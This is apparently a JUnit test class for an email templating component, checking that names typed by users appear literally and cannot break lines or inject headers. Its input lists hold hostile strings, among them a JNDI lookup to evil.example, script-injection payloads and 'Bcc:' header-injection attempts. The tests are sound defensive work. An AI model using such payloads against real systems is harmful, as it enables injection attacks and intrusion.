package dev.portalaccess.internal.text;

import static dev.portalaccess.internal.text.Samples.ENVELOPE;
import static dev.portalaccess.internal.text.Samples.UNTIL;
import static dev.portalaccess.internal.text.Samples.everything;
import static dev.portalaccess.internal.text.Samples.facts;
import static dev.portalaccess.internal.text.Samples.instructing;
import static dev.portalaccess.internal.text.Samples.practice;
import static org.assertj.core.api.Assertions.assertThat;

import dev.portalaccess.model.Mail;
import dev.portalaccess.model.Secret;
import dev.portalaccess.testkit.Requirement;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** T39 to T42: what somebody put into a name comes out as text, and as nothing else. */
@Requirement("PA-142")
class HostileTextTest {

    private static final String CONTROLS = "[\\p{Cc}\\p{Zl}\\p{Zp}&&[^\n]]";

    static List<String> inert() {
        return List.of(
                "${jndi:ldap://evil.example/a}",
                "{0}",
                "{name}",
                "{until}",
                "{{name}}",
                "#{name}",
                "%s%n",
                "O'Brien",
                "'{phone}'",
                "''",
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "javascript:alert(1)",
                "\\u0024{x}",
                "$1\\1",
                "\u760D\u760A",
                "=HYPERLINK(1)",
                "\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645",
                "\uD842\uDFB7");
    }

    static Stream<String> breaking() {
        return Stream.of(
                        "\r",
                        "\n",
                        "\r\n",
                        "\u0085",
                        "\u2028",
                        "\u2029",
                        "\u000B",
                        "\f",
                        "\u0000",
                        "\u001B[31m",
                        "\t",
                        "\u202E",
                        "\u2066",
                        "\u200B",
                        "\uFEFF",
                        "\u00AD",
                        "\uD800",
                        "\uE000",
                        "\uFFFF")
                .map(hostile -> "Ann" + hostile + "Bcc: evil@mail.example");
    }

    @ParameterizedTest
    @MethodSource("inert")
    void a_name_comes_out_literally(String name) {
        assertThat(everything(facts(name, Locale.ENGLISH)).values())
                .allSatisfy(text -> assertThat(text).contains("Hello " + name + ",\n"));
    }

    @ParameterizedTest
    @MethodSource("inert")
    void the_name_of_a_practice_comes_out_literally(String name) {
        Facts facts = new Facts(practice(name, Locale.ENGLISH), "Anthony", Locale.ENGLISH, Optional.empty());
        assertThat(Mails.login(ENVELOPE, facts).subject()).isEqualTo("How to sign in with " + name);
    }

    @ParameterizedTest
    @MethodSource("breaking")
    void a_name_stays_on_its_line_and_hides_nothing(String name) {
        assertThat(everything(facts(name, Locale.ENGLISH)).values())
                .allSatisfy(text -> assertThat(text.lines())
                        .anyMatch(line -> line.matches("Hello Ann[ \uFFFD](\\[31m)?Bcc: evil@mail.example,")));
    }

    @ParameterizedTest
    @MethodSource("breaking")
    void a_name_adds_no_line(String name) {
        long lines = Mails.login(ENVELOPE, facts(Locale.ENGLISH)).text().lines().count();
        assertThat(Mails.login(ENVELOPE, facts(name, Locale.ENGLISH)).text().lines())
                .hasSize((int) lines);
    }

    @ParameterizedTest
    @MethodSource("breaking")
    void instructions_bring_no_control_but_line_feeds(String text) {
        assertThat(Mails.login(ENVELOPE, instructing(text)).text())
                .doesNotContainPattern(CONTROLS)
                .doesNotContainPattern("[\\p{Cf}\\p{Cs}\\p{Co}]");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Praxis \u2028Bcc: x", "Praxis \u202Egro", "Praxis \u2029"})
    void a_subject_is_one_line_whatever_the_practice_calls_itself(String name) {
        Facts facts = new Facts(practice(name, Locale.ENGLISH), "Anthony", Locale.ENGLISH, Optional.empty());
        ActivationLink link = ActivationLink.toActivate(facts.practice(), Secret.of("pa1_x"), UNTIL);
        Mail mail = Mails.activation(ENVELOPE, facts, link);
        assertThat(mail.subject()).doesNotContainPattern("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}]");
    }

    @ParameterizedTest
    @ValueSource(ints = {5, 50, 5_000})
    void a_flood_of_accents_is_cut(int accents) {
        Facts flood = facts("e" + "\u0301".repeat(accents) + "n", Locale.ENGLISH);
        assertThat(Mails.login(ENVELOPE, flood).text()).contains("Hello e\u0301\u0301\u0301\u0301n,");
    }
}
